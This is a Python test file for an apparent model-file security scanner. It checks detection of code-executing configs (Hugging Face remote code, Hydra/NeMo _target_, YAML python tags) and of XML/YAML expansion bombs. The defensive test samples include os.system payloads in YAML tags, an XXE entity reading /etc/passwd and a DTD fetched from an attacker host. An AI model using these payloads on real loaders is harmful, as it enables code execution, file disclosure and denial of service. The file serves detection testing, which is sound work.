"""Configs that make loaders run code, and expansion bombs in config files (issue 15 items 4, 5):
Hugging Face remote code, Hydra/NeMo ``_target_``, YAML python tags, YAML/XML/JSON bombs."""

from __future__ import annotations

import gzip
import io
import json
import pickle
import tarfile
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import modelseal
from modelseal.scanning.report import ScanReport, Severity


def _scan(tmp_path: Path, name: str, data: bytes | str) -> ScanReport:
    path = tmp_path / name
    path.write_bytes(data.encode() if isinstance(data, str) else data)
    report: ScanReport = modelseal.scan(path)
    return report


def _rules(report: ScanReport) -> set[str]:
    return {f.rule for f in report.findings}


# ---- Hugging Face remote code ---------------------------------------------------------------

HF_MALICIOUS: list[tuple[str, str, dict[str, Any] | list[Any], str]] = [
    (
        "auto-map-local-modeling",
        "config.json",
        {"model_type": "x", "auto_map": {"AutoModelForCausalLM": "modeling_x.XForCausalLM"}},
        "hf.auto-map",
    ),
    (
        "auto-map-other-repo",
        "config.json",
        {"model_type": "x", "auto_map": {"AutoModel": "attacker/repo--modeling_x.XModel"}},
        "hf.remote-code-repo",
    ),
    (
        "tokenizer-auto-map-list",
        "tokenizer_config.json",
        {"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}},
        "hf.auto-map",
    ),
    (
        "trust-remote-code-flag",
        "config.json",
        {"model_type": "x", "trust_remote_code": True},
        "hf.trust-remote-code",
    ),
    (
        "custom-pipeline",
        "config.json",
        {"custom_pipelines": {"text-classification": {"impl": "pipe.MyPipeline"}}},
        "hf.custom-pipeline",
    ),
    (
        "sentence-transformers-module",
        "modules.json",
        [{"idx": 0, "name": "0", "path": "", "type": "os.system"}],
        "hf.sentence-transformers-module",
    ),
    (
        "diffusers-component",
        "model_index.json",
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.30.0",
            "unet": ["evil_unet", "UNet"],
        },
        "hf.diffusers-component",
    ),
]


@pytest.mark.parametrize("case", HF_MALICIOUS, ids=[c[0] for c in HF_MALICIOUS])
def test_hf_remote_code_is_caught(
    case: tuple[str, str, dict[str, Any] | list[Any], str], tmp_path: Path
) -> None:
    _, name, doc, rule = case
    report = _scan(tmp_path, name, json.dumps(doc, indent=2))
    assert report.exit_code == 1, report.to_dict()
    assert rule in _rules(report)


HF_BENIGN: dict[str, Any] = {
    "config.json": {
        "architectures": ["BertForMaskedLM"],
        "model_type": "bert",
        "hidden_size": 768,
        "id2label": {"0": "LABEL_0"},
        "_name_or_path": "/home/user/bert",
        "torch_dtype": "float32",
    },
    "tokenizer_config.json": {
        "tokenizer_class": "BertTokenizer",
        "do_lower_case": True,
        "added_tokens_decoder": {"0": {"content": "[PAD]", "special": True}},
    },
    "generation_config.json": {"bos_token_id": 1, "eos_token_id": 2},
    "model_index.json": {
        "_class_name": "StableDiffusionPipeline",
        "_diffusers_version": "0.30.0",
        "scheduler": ["diffusers", "PNDMScheduler"],
        "text_encoder": ["transformers", "CLIPTextModel"],
        "safety_checker": [None, None],
    },
    "unet.json": {
        "_class_name": "UNet2DConditionModel",
        "_diffusers_version": "0.30.0",
        "down_block_types": ["CrossAttnDownBlock2D", "DownBlock2D"],
    },
    "modules.json": [
        {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
        {
            "idx": 1,
            "name": "1",
            "path": "1_Pooling",
            "type": "sentence_transformers.models.Pooling",
        },
    ],
    "trainer_state.jsonl": None,
}


def test_real_hf_configs_stay_clean(tmp_path: Path) -> None:
    for name, doc in HF_BENIGN.items():
        if doc is None:  # JSON Lines
            text = "\n".join(json.dumps({"step": i, "loss": 1.0 / (i + 1)}) for i in range(50))
        else:
            text = json.dumps(doc, indent=2)
        (tmp_path / name).write_text(text)
    report = modelseal.scan(tmp_path)
    assert report.clean, report.to_dict()


# ---- Hydra / NeMo ----------------------------------------------------------------------------

NEMO_CONFIG = """\
name: Conformer-CTC
model:
  sample_rate: 16000
  preprocessor:
    _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
    features: 80
  encoder:
    _target_: nemo.collections.asr.modules.ConformerEncoder
    feat_in: 80
  optim:
    name: adamw
    sched: {name: CosineAnnealing, warmup_steps: 1000}
  loss:
    _target_: torch.nn.CrossEntropyLoss
"""


def _nemo(config: str, *, compressed: bool) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tf:
        for name, data in (
            ("./model_config.yaml", config.encode()),
            ("./model_weights.ckpt", pickle.dumps({"w": [1.0, 2.0]}, protocol=2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return gzip.compress(buf.getvalue()) if compressed else buf.getvalue()


HYDRA_MALICIOUS = [
    ("os-system", "  evil:\n    _target_: os.system\n    command: id\n"),
    ("builtins-exec-args", "  evil:\n    _target_: builtins.exec\n    _args_: ['import os']\n"),
    ("subprocess-partial", "  evil:\n    _target_: subprocess.Popen\n    _partial_: true\n"),
    ("unknown-package", "  evil:\n    _target_: attacker_pkg.payload.Run\n"),
    ("torch-load", "  evil:\n    _target_: torch.load\n    f: /tmp/x.pt\n"),
    ("hydra-call", "  evil:\n    _target_: hydra.utils.call\n    path: os.system\n"),
]


@pytest.mark.parametrize("compressed", [False, True], ids=["tar", "tar.gz"])
@pytest.mark.parametrize("case", HYDRA_MALICIOUS, ids=[c[0] for c in HYDRA_MALICIOUS])
def test_nemo_archive_with_hydra_target_is_caught(
    case: tuple[str, str], compressed: bool, tmp_path: Path
) -> None:
    report = _scan(tmp_path, "model.nemo", _nemo(NEMO_CONFIG + case[1], compressed=compressed))
    assert report.exit_code == 1, report.to_dict()
    hits = [f for f in report.findings if f.rule == "hydra.target"]
    assert hits and all("CVE-2025-23304" in f.message for f in hits)
    assert all(f.location.members[-1].endswith("model_config.yaml") for f in hits)


def test_benign_nemo_archive_stays_clean(tmp_path: Path) -> None:
    for compressed in (False, True):
        report = _scan(tmp_path, f"ok{compressed}.nemo", _nemo(NEMO_CONFIG, compressed=compressed))
        assert report.clean, report.to_dict()
        assert "yaml" in report.files[0].formats


def test_hydra_target_in_json(tmp_path: Path) -> None:
    doc = {"model": {"head": {"_target_": "posix.system", "_args_": ["id"]}}}
    assert "hydra.target" in _rules(_scan(tmp_path, "cfg.json", json.dumps(doc)))


# ---- YAML python tags ------------------------------------------------------------------------

YAML_TAGS = [
    ("object-apply", 'x: !!python/object/apply:os.system ["id"]\n'),
    ("object-new", "x: !!python/object/new:subprocess.Popen [[id]]\n"),
    ("name", "x: !!python/name:os.system\n"),
    ("module", "x: !!python/module:os\n"),
    ("object", "x: !!python/object:subprocess.Popen {args: id}\n"),
    ("long-form", 'x: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]\n'),
    (
        "tag-handle",
        '%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system ["id"]\n',
    ),
    (
        "primary-handle",
        '%TAG ! tag:yaml.org,2002:\n---\nx: !python/object/apply:os.system ["id"]\n',
    ),
    ("uri-escaped", 'x: !!python%2Fobject%2Fapply:os.system ["id"]\n'),
    ("leading-newline", '\n\nx: !!python/object/apply:os.system ["id"]\n'),  # sniffs as protobuf
    ("leading-quote", '"a": 1\nx: !!python/object/apply:os.system ["id"]\n'),
    ("leading-t", 'target: 1\nx: !!python/object/apply:os.system ["id"]\n'),  # a pickle opcode
    (
        "flow-json-like",
        '{"x": !!python/object/apply:os.system ["id"], "pad": "' + "y" * 5000 + '"}',
    ),
    ("later-document", "a: 1\n---\nx: !!python/name:os.system\n"),
    (
        "tf-model-from-yaml",  # the TensorFlow model_from_yaml exploit: builtins without a module
        "!!python/object/new:type\n"
        '  args: ["z", !!python/tuple [], {"extend": !!python/name:exec }]\n'
        "  listitems: \"__import__('os').system('id')\"\n",
    ),
    ("broken-after-tag", 'x: !!python/object/apply:os.system ["id"]\n---\nb: [unclosed\n'),
]


@pytest.mark.parametrize("case", YAML_TAGS, ids=[c[0] for c in YAML_TAGS])
def test_yaml_python_tags_are_caught(case: tuple[str, str], tmp_path: Path) -> None:
    report = _scan(tmp_path, "config.yaml", case[1])
    assert not report.clean
    assert report.exit_code in (1, 2)
    hits = [f for f in report.findings if f.rule.startswith("yaml.")]
    assert hits, report.to_dict()
    assert any(f.severity >= Severity.HIGH for f in hits)


def test_yaml_plain_python_types_and_real_configs_stay_clean(tmp_path: Path) -> None:
    files = {
        # What yaml.dump writes for Lightning hparams holding tuples.
        # (Starting with "m": text starting with most lowercase letters is still sniffed as a
        # protocol-0 pickle until issue 15 item 8 lands.)
        "hparams.yaml": "model_name: run\nbetas: !!python/tuple\n- 0.9\n- 0.999\nlr: 0.1\n",
        "model_config.yaml": NEMO_CONFIG,
        "anchors.yaml": (
            "# shared\nbase: &base {lr: 0.1, wd: 0.0}\nstage1: *base\nstage2:\n  <<: *base\n"
        ),
        "README.md": "---\nlicense: mit\n---\n# Model\n\nUse `yaml.safe_load`.\n",
        "modeling_x.py": "import torch\n\nclass X(torch.nn.Module):\n    pass\n",
    }
    for name, text in files.items():
        (tmp_path / name).write_text(text)
    report = modelseal.scan(tmp_path)
    assert report.clean, report.to_dict()


# ---- expansion bombs -------------------------------------------------------------------------


def _yaml_laughs(width: int, depth: int) -> str:
    lines = ['a0: &a0 ["lol"]']
    for i in range(1, depth + 1):
        refs = ", ".join([f"*a{i - 1}"] * width)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def test_yaml_alias_bomb_is_caught(tmp_path: Path) -> None:
    report = _scan(tmp_path, "bomb.yaml", _yaml_laughs(10, 9))
    assert report.exit_code == 1
    assert "yaml.alias-bomb" in _rules(report)


def _xml_laughs(width: int, depth: int) -> str:
    decls = ['<!ENTITY l0 "lol">']
    for i in range(1, depth + 1):
        decls.append(f'<!ENTITY l{i} "{f"&l{i - 1};" * width}">')
    return f'<?xml version="1.0"?>\n<!DOCTYPE r [\n{chr(10).join(decls)}\n]>\n<r>&l{depth};</r>\n'


def test_xml_billion_laughs_is_caught(tmp_path: Path) -> None:
    report = _scan(tmp_path, "model.xml", _xml_laughs(10, 9))
    assert report.exit_code == 1
    assert "xml.entity-expansion" in _rules(report)


@pytest.mark.parametrize(
    ("name", "dtd"),
    [
        ("xxe-file", '<!ENTITY x SYSTEM "file:///etc/passwd">'),
        ("xxe-parameter", '<!ENTITY % p SYSTEM "http://attacker/evil.dtd"> %p;'),
        ("recursive", '<!ENTITY a "&b;"><!ENTITY b "&a;">'),
    ],
)
def test_xml_external_and_recursive_entities_are_caught(
    name: str, dtd: str, tmp_path: Path
) -> None:
    text = f'<?xml version="1.0"?>\n<!DOCTYPE r [{dtd}]>\n<r>&x;</r>\n'
    report = _scan(tmp_path, "x.xml", text)
    assert not report.clean
    assert _rules(report) & {"xml.external-entity", "xml.entity-expansion"}


def test_real_xml_stays_clean(tmp_path: Path) -> None:
    ir = (
        '<?xml version="1.0"?>\n<net name="model" version="11">\n<layers>\n'
        '<layer id="0" name="x" type="Parameter" version="opset1">'
        '<data shape="1,3" element_type="f32"/></layer>\n</layers>\n</net>\n'
    )
    small = '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY co "ACME &amp; Co">]>\n<r>&co;</r>\n'
    assert _scan(tmp_path, "model.xml", ir).clean
    assert _scan(tmp_path, "small.xml", small).clean


@pytest.mark.parametrize("opener", ["[", '{"a":'])
def test_deeply_nested_json_is_a_finding_and_unscannable(opener: str, tmp_path: Path) -> None:
    closer = "]" if opener == "[" else "}"
    text = opener * 100_000 + "1" + closer * 100_000
    report = _scan(tmp_path, "deep.json", text)
    # A finding exits 1 even though the rest could not be analysed; the report lists both.
    assert report.exit_code == 1 and report.files[0].unscannable
    assert "config.nesting" in _rules(report)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(width=st.integers(2, 12), depth=st.integers(1, 10))
def test_xml_entities_are_flagged_exactly_when_they_expand_past_the_bound(
    width: int, depth: int, tmp_path: Path
) -> None:
    from modelseal.scanning.formats.xmldoc import MAX_ENTITY_SIZE

    report = _scan(tmp_path, "p.xml", _xml_laughs(width, depth))
    expands = 3 * width**depth
    assert ("xml.entity-expansion" in _rules(report)) == (expands > MAX_ENTITY_SIZE)


@settings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(width=st.integers(2, 12), depth=st.integers(1, 9))
def test_yaml_aliases_are_flagged_when_they_expand_past_the_bound(
    width: int, depth: int, tmp_path: Path
) -> None:
    from modelseal.scanning.formats.yamldoc import MAX_EXPANDED

    report = _scan(tmp_path, "p.yaml", _yaml_laughs(width, depth))
    leaves = width**depth  # "lol" strings a copying loader builds for the last anchor alone
    flagged = "yaml.alias-bomb" in _rules(report)
    if leaves > 2 * MAX_EXPANDED:
        assert flagged
    if 3 * leaves < MAX_EXPANDED:  # every node of every level, with room to spare
        assert not flagged
    assert report.exit_code == (1 if flagged else 0)


_SCALARS = st.one_of(st.none(), st.booleans(), st.integers(-(10**6), 10**6), st.text(max_size=20))
_DOCS = st.recursive(
    _SCALARS,
    lambda inner: st.one_of(
        st.lists(inner, max_size=5),
        st.dictionaries(
            st.text(max_size=10).filter(lambda k: not k.startswith("_")), inner, max_size=5
        ),
    ),
    max_leaves=40,
)


@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(doc=st.dictionaries(st.sampled_from(["model", "optim", "data", "name"]), _DOCS, min_size=1))
def test_plain_configs_are_clean_as_json_and_yaml(doc: dict[str, Any], tmp_path: Path) -> None:
    yaml = pytest.importorskip("yaml")
    assert _scan(tmp_path, "c.json", json.dumps(doc)).clean
    assert _scan(tmp_path, "c.yaml", yaml.safe_dump(doc)).clean


def test_nemo_top_level_target_and_legacy_cls_are_checked(tmp_path: Path) -> None:
    good = NEMO_CONFIG + "target: nemo.collections.asr.models.EncDecCTCModelBPE\n"
    assert _scan(tmp_path, "good.nemo", _nemo(good, compressed=False)).clean
    for text in (
        NEMO_CONFIG + "target: attacker_pkg.models.Evil\n",
        "model:\n  cls: os.system\n  params: {command: id}\n",
    ):
        report = _scan(tmp_path, "bad.nemo", _nemo(text, compressed=False))
        assert "hydra.target" in _rules(report), report.to_dict()
    # "target" as an ordinary word is not an import path.
    assert _scan(tmp_path, "t.yaml", "name: x\nloss:\n  target: labels\n").clean


def test_trust_remote_code_in_yaml(tmp_path: Path) -> None:
    report = _scan(tmp_path, "cfg.yaml", "model:\n  name: x\n  trust_remote_code: true\n")
    assert "hf.trust-remote-code" in _rules(report)


def test_escaped_tag_prefix_that_libyaml_and_pyyaml_refuse_is_not_clean(tmp_path: Path) -> None:
    text = '%TAG !p! tag:yaml.org,2002:%70ython/\n---\nx: !p!object/apply:os.system ["id"]\n'
    assert "yaml.python-tag" in _rules(_scan(tmp_path, "ok.yaml", text))
    broken = text + "---\n[unclosed\n"
    assert not _scan(tmp_path, "broken.yaml", broken).clean


def test_utf16_xml_without_bom_is_read(tmp_path: Path) -> None:
    data = _xml_laughs(10, 9).encode("utf-16-le")
    assert "xml.entity-expansion" in _rules(_scan(tmp_path, "model.xml", data))


def test_deeply_nested_yaml_stops_early(tmp_path: Path) -> None:
    # Parsers slow down with nesting: the walk stops at the bound instead of waiting.
    report = _scan(tmp_path, "deep.yaml", "x: " + "[" * 100_000 + "]" * 100_000 + "\n")
    assert report.exit_code == 1 and report.files[0].unscannable
    assert "config.nesting" in _rules(report)


def test_json_too_large_to_parse_is_unscannable_only_when_it_names_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from modelseal.scanning.formats import jsondoc

    monkeypatch.setattr(jsondoc, "MAX_JSON_NODES", 1000)
    values = json.dumps(list(range(5000)))
    assert _scan(tmp_path, "big.json", values).clean
    hooked = json.dumps({"auto_map": {"AutoModel": "m.X"}, "v": list(range(5000))})
    report = _scan(tmp_path, "hooked.json", hooked)
    assert report.exit_code == 2 and report.unscannable


def test_yaml_shaped_to_parse_as_protobuf_is_still_read_as_yaml(tmp_path: Path) -> None:
    # Every line is "\n" + a length byte + that many bytes: a valid protobuf of field 1 only
    # (the shape of keras_metadata.pb), and a YAML mapping with a python tag.
    body = ' x: !!python/object/apply:os.system ["id"]  #'
    body += "-" * (ord("A") - len(body))  # the length byte reads "A": the key is "A x"
    report = _scan(tmp_path, "meta", "\n" + chr(len(body)) + body)
    assert "yaml.python-tag" in _rules(report), report.to_dict()


def test_large_yaml_libyaml_refuses_is_unscannable_when_it_names_code(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from modelseal.scanning.formats import yamldoc

    monkeypatch.setattr(yamldoc, "MAX_PURE_PYTHON", 0)  # as if the stream were over 4 MiB
    broken = "model:\n  _target_: os.system\n  x: [unclosed\n"
    assert _scan(tmp_path, "big.yaml", broken).unscannable
    assert _scan(tmp_path, "notes.yaml", "model:\n  x: [unclosed\n").clean
